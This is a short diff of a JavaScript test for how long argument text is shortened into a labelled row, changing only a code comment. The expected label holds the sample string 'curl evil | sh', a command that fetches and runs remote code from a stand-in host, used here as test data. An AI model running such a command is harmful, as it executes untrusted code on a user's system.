@@ -35,7 +35,7 @@ describe('Arguments as rows', () => {
     const label = rows[0]?.label ?? '';
     assert.match(label, /^text: "begin x+ … x*; curl evil \| sh"$/);
     assert.equal(rows[0]?.length, text.length + 2);
-    // Nothing is counted twice or forgotten.
+    // No character is counted twice or left out.
     const shown = label.replace('text: ', '').replace(' … ', '').length;
     assert.equal(shown + (elsewhere?.characters ?? 0), text.length + 2);
   });
